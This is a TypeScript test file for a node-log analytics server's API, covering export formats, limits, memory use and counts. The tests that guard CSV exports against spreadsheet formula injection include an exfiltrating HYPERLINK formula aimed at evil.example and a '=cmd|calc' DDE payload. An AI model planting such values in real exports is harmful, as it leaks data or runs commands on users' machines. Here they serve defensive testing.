import { parse } from 'csv-parse/sync';
import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import { DataSource } from 'typeorm';
import { describe, expect, it, vi } from 'vitest';
import { NEWEST_FIRST } from '../../src/query/messages/message-ranges.js';
import { NodeMessages } from '../../src/query/messages/node-messages.js';
import { MESSAGE_JSON } from '../../src/query/messages/message-sql.js';
import { dataSourceOptions, ReadTransaction } from '../../src/storage/index.js';
import { batch, newConnectionId, row, snapshot, type TestRow } from '../support/batches.js';
import { TestDatabase } from '../support/databases.js';
import { FakeNode } from '../support/fake-node.js';
import { usedBytes } from '../support/kept-bytes.js';
import { sharedServer } from '../support/shared-server.js';
import { TestServer } from '../support/test-server.js';
import { TestStorage } from '../support/test-storage.js';
import { waitUntil } from '../support/wait-until.js';

/** A part of the OpenAPI document. */
interface Document {
  paths: Record<string, { get: { parameters: { name: string; schema: { maximum?: number } }[] } }>;
}

const MIB = 1024 ** 2;

const PEER = 'QmAsked';

/** A peer with these messages, a millisecond apart, the first the oldest. */
async function store(
  database: TestDatabase,
  messages: readonly { msg: string | null; logs: string }[],
): Promise<void> {
  await using storage = new TestStorage(database.url);
  const id = newConnectionId();
  const oldest = Date.now() - messages.length;
  const rows: TestRow[] = messages.map((message, index) =>
    row({ at: oldest + index, connectionId: id, ...message }),
  );
  const connection = snapshot({
    id,
    peerId: PEER,
    oldestCreatedAt: oldest,
    newestCreatedAt: oldest + messages.length,
  });
  await storage.store(batch({ expiring: rows, connections: [connection] }));
}

const message = (fields: { msg: string } & Record<string, unknown>): { msg: string; logs: string } => ({
  msg: fields.msg,
  logs: JSON.stringify(fields),
});

async function ask(
  server: TestServer,
  path: string,
  accept: string,
  localAddress = '127.0.0.1',
): Promise<IncomingMessage> {
  const asking = request(server.http + path, { agent: false, headers: { accept }, localAddress }).end();
  const [answer] = (await once(asking, 'response')) as [IncomingMessage];
  answer.on('error', () => undefined);
  return answer;
}

const shared = sharedServer();

describe('the messages of a node', () => {
  it('keep every digit of their numbers, and every character of their texts', async () => {
    const { server } = shared();
    const node = await FakeNode.connect(server.ws);
    await node.sendConnected({ network_id: PEER });
    const said = `"msg":"tracing.profiling","ts":"2020-02-06T09:59:03+00:00","id":18446744073709551615,"time":1.50,"name":"a,\\"b\\"\\r\\nc 😀"`;
    await node.send(`{${said}}`);
    const path = `/nodes/logs?peer_id=${PEER}&msg=tracing.profiling`;
    await waitUntil(async () => (await (await server.get(path)).text()) !== '[]', { what: 'the message' });
    const text = async (accept: string): Promise<string> =>
      await (await fetch(server.http + path, { headers: { accept } })).text();
    for (const accept of ['application/json', 'application/x-ndjson']) {
      expect(await text(accept)).toContain('"id": 18446744073709551615');
      expect(await text(accept)).toContain('"time": 1.50');
    }
    const csv = await text('text/csv');
    expect(csv).toContain('""id"": 18446744073709551615');
    expect(csv).toContain('""name"": ""a,\\""b\\""\\r\\nc 😀""');
    await node.close();
  });

  it('run no formula in a spreadsheet, unless raw texts are requested', async () => {
    await using database = await TestDatabase.create();
    const harmless = ['block.import', '1=1', "'=1", ' =1', '"=1"', '', '7', '{=1}', 'a\n=1', 'ä'];
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '\n=1',
      '\uFF1D1+1',
      '=1\r\n"=2"',
    ];
    const types = [...harmless, ...formulas];
    await store(
      database,
      types.map((msg) => message({ msg, name: '=1+1', n: -1 })),
    );
    await using server = await TestServer.ready(database.url);
    const export_ = async (format: string, raw = ''): Promise<string> =>
      await (await server.get(`/nodes/logs?peer_id=${PEER}&order=asc&format=${format}${raw}`)).text();
    type Row = Record<string, string>;
    const rows = async (raw = ''): Promise<Row[]> =>
      parse<Row>(await export_('csv', raw), { columns: true, record_delimiter: '\r\n' });
    const shown = await rows();
    expect(shown.map(({ msg }) => msg)).toEqual([...harmless, ...formulas.map((msg) => `'${msg}`)]);
    // Numbers are numbers, and the JSON of a message is no formula.
    for (const { id = '', logs = '' } of shown) {
      expect(id).toMatch(/^\d+$/);
      expect(JSON.parse(logs)).toMatchObject({ name: '=1+1', n: -1 });
    }
    expect((await rows('&raw=true')).map(({ msg }) => msg)).toEqual(types);
    expect(await rows('&raw=false')).toEqual(shown);
    const lines = (await export_('ndjson')).split('\n').slice(0, -1);
    expect(lines.map((line) => (JSON.parse(line) as { msg: string }).msg)).toEqual(types);
    expect((await server.get(`/nodes/logs?peer_id=${PEER}&raw=1`)).status).toBe(400);
  });

  it('of a node whose peer id is a formula run no formula either', async () => {
    await using database = await TestDatabase.create();
    await using server = await TestServer.ready(database.url);
    const peer = '=cmd|calc';
    const node = await FakeNode.connect(server.ws);
    await node.sendConnected({ network_id: peer });
    const path = `/nodes/logs?peer_id=${encodeURIComponent(peer)}&format=csv`;
    const csv = async (raw = ''): Promise<string> => await (await server.get(path + raw)).text();
    await waitUntil(async () => (await csv()).includes('system.connected'), { what: 'the message' });
    expect(await csv()).toContain(`,"'${peer}",`);
    expect(await csv('&raw=true')).toContain(`,"${peer}",`);
    await node.close();
  });

  it('come in the preferred format of Accept, JSON by default, and 406 if none is available', async () => {
    await using database = await TestDatabase.create();
    await store(database, [message({ msg: 'block.import', height: 1 })]);
    await using server = await TestServer.ready(database.url);
    const formats: [accept: string, contentType: string | null][] = [
      ['*/*', 'application/json; charset=utf-8'],
      ['application/*', 'application/json; charset=utf-8'],
      ['text/html,application/xhtml+xml,*/*;q=0.8', 'application/json; charset=utf-8'],
      ['application/x-ndjson', 'application/x-ndjson; charset=utf-8'],
      ['application/json;q=0.5, text/csv', 'text/csv; charset=utf-8; header=present'],
      ['text/*', 'text/csv; charset=utf-8; header=present'],
      // Parameters do not matter: a client may send the type that it got.
      ['application/json; charset=utf-8', 'application/json; charset=utf-8'],
      [
        'text/csv; header=present; q=0.9, application/json;q=0.8;x="a,b"',
        'text/csv; charset=utf-8; header=present',
      ],
      ['text/csv;header=present;q=0.1, application/x-ndjson;v=1', 'application/x-ndjson; charset=utf-8'],
    ];
    for (const [accept, contentType] of formats) {
      const answer = await fetch(`${server.http}/nodes/logs?peer_id=${PEER}`, { headers: { accept } });
      expect([accept, answer.headers.get('content-type')]).toEqual([accept, contentType]);
      expect(await answer.text()).toContain('block.import');
    }
    const refused = await fetch(`${server.http}/nodes/logs?peer_id=${PEER}`, {
      headers: { accept: 'text/html' },
    });
    expect([refused.status, refused.headers.get('content-type')]).toEqual([
      406,
      'application/problem+json; charset=utf-8',
    ]);
    expect(await refused.json()).toMatchObject({ detail: expect.stringContaining('text/csv') as string });
  });

  it('are at most JSON_MAX_ROWS in JSON, and any number in other formats', async () => {
    await using database = await TestDatabase.create();
    await store(
      database,
      Array.from({ length: 10_500 }, (_, n) => message({ msg: 'test.row', n })),
    );
    await using server = await TestServer.ready(database.url, { JSON_MAX_ROWS: '10400' });
    const query = { peer_id: PEER };
    expect((await server.api.GET('/nodes/logs', { params: { query } })).data).toHaveLength(100);
    expect(
      (await server.api.GET('/nodes/logs', { params: { query: { ...query, limit: 10_400 } } })).data,
    ).toHaveLength(10_400);
    const { error } = await server.api.GET('/nodes/logs', { params: { query: { ...query, limit: 10_401 } } });
    expect(error).toMatchObject({ status: 400, errors: [{ parameter: 'limit' }] });
    for (const [path, status] of [
      ['/nodes?limit=10400', 200],
      ['/nodes?limit=10401', 400],
      ['/reputation?limit=10401', 400],
    ] as const) {
      expect([path, (await server.get(path)).status]).toEqual([path, status]);
    }
    const { paths } = (await (await server.get('/openapi.json')).json()) as Document;
    expect(paths['/nodes']?.get.parameters.find(({ name }) => name === 'limit')?.schema.maximum).toBe(10_400);
    for (const [limit, expected] of [
      [undefined, 10_500],
      [10_200, 10_200],
      [3, 3],
    ] as const) {
      const { data = '' } = await server.api.GET('/nodes/logs', {
        params: { query: { ...query, order: 'asc', ...(limit !== undefined && { limit }) } },
        headers: { accept: 'application/x-ndjson' },
        parseAs: 'text',
      });
      const numbers = data
        .split('\n')
        .slice(0, -1)
        .map((line) => (JSON.parse(line) as { logs: { n: number } }).logs.n);
      expect(numbers).toEqual(Array.from({ length: expected }, (_, n) => n));
    }
  });

  it('are exported four at a time, two per address; further exports get 503, and an address without one gets its share', async () => {
    await using database = await TestDatabase.create();
    await store(database, [message({ msg: 'test.row', filler: 'x'.repeat(10_000) })]);
    await database.query(
      `INSERT INTO logs_expiring (created_at, received_at, collector, peer_connection_id, type, logs)
       SELECT created_at, received_at, collector, peer_connection_id, type, logs FROM logs_expiring, generate_series(2, 5000)`,
    );
    await using server = await TestServer.ready(database.url);
    const path = `/nodes/logs?peer_id=${PEER}`;
    const running = await Promise.all(
      [1, 1, 2, 2].map((n) => ask(server, path, 'application/x-ndjson', `127.0.0.${n.toString()}`)),
    );
    for (const address of ['127.0.0.1', '127.0.0.2']) {
      const refused = await ask(server, path, 'text/csv', address);
      expect([refused.statusCode, refused.headers['retry-after']]).toEqual([503, '5']);
    }
    expect((await server.api.GET('/nodes')).data).toHaveLength(1);
    const newcomer = await ask(server, path, 'text/csv', '127.0.0.3');
    expect(newcomer.statusCode).toBe(200);
    // One of an address with two has made room.
    expect((await server.metric('tetcore_http_answers_cut_total')).get('reason="evicted"')).toBe(1);
    newcomer.destroy();
    running[0]?.destroy();
    await waitUntil(async () => (await ask(server, path, 'text/csv')).statusCode === 200, {
      what: 'the end of the export whose client went away',
    });
    for (const answer of running) answer.destroy();
  });

  it('are read in short ranges from the newest hours on, by the clock of the database', async () => {
    await using database = await TestDatabase.create();
    const id = newConnectionId();
    const now = Date.now();
    const days = 5 * 86_400_000;
    {
      await using storage = new TestStorage(database.url);
      const rows = [now - days, now - 1_000].map((at) =>
        row({ at, connectionId: id, ...message({ msg: 'block.import' }) }),
      );
      const connection = snapshot({ id, peerId: PEER, oldestCreatedAt: now - days, newestCreatedAt: now });
      await storage.store(batch({ expiring: rows, connections: [connection] }));
    }
    const dataSource = await new DataSource(dataSourceOptions(database.url)).initialize();
    const open = vi.spyOn(ReadTransaction.prototype, 'open');
    const clock = vi.spyOn(Date, 'now').mockReturnValue(Date.UTC(2019, 0, 1));
    try {
      const selection = { peerId: PEER, filter: {}, order: NEWEST_FIRST, limit: 1, projection: MESSAGE_JSON };
      const found: string[] = [];
      for await (const texts of ReadTransaction.read(dataSource, (transaction) =>
        new NodeMessages(transaction, selection).rows(),
      )) {
        found.push(...texts);
      }
      expect(found).toHaveLength(1);
      const from = Date.parse(String(open.mock.calls[1]?.[0].values[2]));
      expect(Math.abs(now - 6 * 3_600_000 - from)).toBeLessThan(60_000);
    } finally {
      clock.mockRestore();
      open.mockRestore();
      await dataSource.destroy();
    }
  });

  it('of very different sizes are exported in little memory, also if small ones come first', async () => {
    await using database = await TestDatabase.create();
    const size = 500_000;
    await store(database, [
      // One more than the first fetch: the next rows are expected to be as small.
      ...Array.from({ length: 17 }, () => message({ msg: 'small' })),
      message({ msg: 'large', filler: 'x'.repeat(size) }),
    ]);
    await database.query(
      `INSERT INTO logs_expiring (created_at, received_at, collector, peer_connection_id, type, logs)
       SELECT created_at, received_at, collector, peer_connection_id, type, logs
         FROM logs_expiring, generate_series(2, 300) WHERE logs->>'msg' = 'large'`,
    );
    await using server = await TestServer.ready(database.url);
    const before = usedBytes();
    let [bytes, peak, looks] = [0, before, 0];
    const path = `/nodes/logs?peer_id=${PEER}&order=asc`;
    for await (const chunk of await ask(server, path, 'application/x-ndjson')) {
      bytes += (chunk as Buffer).length;
      if (bytes > 4 * MIB * looks) {
        looks += 1;
        peak = Math.max(peak, usedBytes());
      }
    }
    expect(bytes).toBeGreaterThan(300 * size);
    expect(peak - before).toBeLessThan(85 * MIB);
  }, 90_000);

  it('are read only up to the first one for HEAD', async () => {
    await using database = await TestDatabase.create();
    await store(database, [message({ msg: 'test.row', filler: 'x'.repeat(10_000) })]);
    await database.query(
      `INSERT INTO logs_expiring (created_at, received_at, collector, peer_connection_id, type, logs)
       SELECT created_at, received_at, collector, peer_connection_id, type, logs FROM logs_expiring, generate_series(2, 20000)`,
    );
    await using server = await TestServer.ready(database.url);
    for (const accept of ['application/x-ndjson', 'text/csv', 'application/json']) {
      const answer = await fetch(`${server.http}/nodes/logs?peer_id=${PEER}`, {
        method: 'HEAD',
        headers: { accept },
      });
      expect([answer.status, await answer.text()]).toEqual([200, '']);
      expect(answer.headers.get('content-type')).toContain(accept);
    }
  });
});

describe('counts', () => {
  it('of messages are by type, in a time range if requested', async () => {
    await using database = await TestDatabase.create();
    await store(database, [
      ...Array.from({ length: 3 }, () => message({ msg: 'a' })),
      ...Array.from({ length: 5 }, () => message({ msg: 'b' })),
      { msg: null, logs: '{}' },
    ]);
    await using server = await TestServer.ready(database.url);
    const query = { peer_id: PEER };
    expect((await server.api.GET('/nodes/log_stats', { params: { query } })).data).toEqual([
      { qty: 5, log_type: 'b' },
      { qty: 3, log_type: 'a' },
      { qty: 1, log_type: null },
    ]);
    const { data: messages = [] } = await server.api.GET('/nodes/logs', {
      params: { query: { ...query, order: 'asc' } },
    });
    const [start_time, end_time] = [messages[0]?.created_at ?? '', messages[4]?.created_at ?? ''];
    expect(
      (await server.api.GET('/nodes/log_stats', { params: { query: { ...query, start_time, end_time } } }))
        .data,
    ).toEqual([
      { qty: 2, log_type: 'a' },
      { qty: 1, log_type: 'b' },
    ]);
    expect(
      (await server.api.GET('/nodes/log_stats', { params: { query: { peer_id: 'QmNobody' } } })).data,
    ).toEqual([]);
  });

  it('of peers are from intervals and network states only', async () => {
    await using database = await TestDatabase.create();
    const state = { connectedPeers: { a: {}, b: {} }, notConnectedPeers: { c: {} } };
    await store(database, [
      message({ msg: 'system.interval', height: 1 }),
      message({ msg: 'system.interval', peers: 31 }),
      message({ msg: 'system.interval', peers: 'many' }),
      ...['1e30', '-1', '1.5', '9007199254740993', '1e-400'].map((peers) => ({
        msg: 'system.interval',
        logs: `{"msg":"system.interval","peers":${peers}}`,
      })),
      message({ msg: 'system.interval', peers: 0 }),
      { msg: 'system.interval', logs: '{"msg":"system.interval","peers":2.0}' },
      message({ msg: 'system.interval', peers: 2 ** 53 }),
      message({ msg: 'system.network_state', state }),
      message({ msg: 'system.network_state', network_state: { ...state, notConnectedPeers: [] } }),
      message({ msg: 'system.network_state', state: 'odd' }),
      message({ msg: 'block.import', peers: 7 }),
    ]);
    await using server = await TestServer.ready(database.url);
    const counts = async (query: object): Promise<unknown[]> => {
      const { data = [] } = await server.api.GET('/nodes/peer_counts', {
        params: { query: { peer_id: PEER, ...query } },
      });
      return data.map(({ peers, not_connected_peers, msg }) => [msg, peers, not_connected_peers]);
    };
    const expected = [
      ['system.network_state', 2, 0],
      ['system.network_state', 2, 1],
      ['system.interval', 2 ** 53, null],
      ['system.interval', 2, null],
      ['system.interval', 0, null],
      ['system.interval', 31, null],
    ];
    expect(await counts({})).toEqual(expected);
    expect(await counts({ order: 'asc' })).toEqual([...expected].reverse());
    expect(await counts({ limit: 1 })).toEqual(expected.slice(0, 1));
  });
});

describe('the parameters of 0.1.4', () => {
  const ALL =
    'peer_id=QmA&msg=x&target=x&start_time=2020-01-01T00:00:00&end_time=2030-01-01T00:00:00&limit=5&max_age_s=60';

  it('are ignored where a route has none of that name', async () => {
    const { server } = shared();
    for (const path of [
      '/nodes',
      '/nodes/log_stats',
      '/nodes/logs',
      '/reputation',
      '/stats/db',
      '/benchmarks',
      '/metrics',
    ]) {
      expect([path, (await server.get(`${path}?${ALL}`)).status]).toEqual([path, 200]);
      expect([path, (await server.get(`${path}?${ALL}&foo=1`)).status]).toEqual([path, 400]);
    }
    // Where they mean something, they are validated.
    expect((await server.get('/reputation?max_age_s=x')).status).toBe(400);
  });
});

describe('the server', () => {
  it('returns the sizes of its tables and indexes, and its name and version', async () => {
    const { server } = shared();
    const { data: sizes = [] } = await server.api.GET('/stats/db');
    const bytes = sizes.map((one) => one.bytes);
    expect(bytes).toEqual([...bytes].sort((one, other) => other - one));
    const names = sizes.map((one) => one.relation);
    expect(names).toContain('public.peer_connections');
    expect(names).toContain('public.peer_connections_pkey');
    expect(names.some((name) => /^public\.logs_expiring_\d+$/.test(name))).toBe(true);
    // A table of 0.1.4, here a view.
    const { bytes: ofMessages = 0 } = sizes.find(({ relation }) => relation === 'public.tetcore_logs') ?? {};
    const parts = sizes.filter(({ relation }) =>
      /^public\.logs_(expiring|audit)(_\d+|_default)?$/.test(relation),
    );
    expect(ofMessages).toBe(parts.reduce((sum, part) => sum + part.bytes, 0));
    expect(ofMessages).toBeGreaterThan(0);
    expect(sizes[0]?.size).toMatch(/^\d+ (bytes|kB|MB)$/);
    for (const path of ['/stats/version', '/stats/version/']) {
      expect(await (await server.get(path)).json()).toMatchObject({ name: 'tetcore-analytics' });
    }
    expect((await server.api.GET('/stats/version')).data?.version).toMatch(/^\d+\.\d+\.\d+$/);
  });

  it.each(['/stats/db', '/stats/version', '/nodes/QmA', '/health/live', '/metrics'])(
    'rejects unknown parameters at %s',
    async (path) => {
      const { server } = shared();
      const answer = await server.get(`${path}?foo=1`);
      expect([answer.status, answer.headers.get('content-type')]).toEqual([
        400,
        'application/problem+json; charset=utf-8',
      ]);
      expect(await answer.json()).toMatchObject({
        errors: [{ parameter: 'foo', detail: expect.stringMatching(/^is unknown; known are: /) as string }],
      });
    },
  );
});
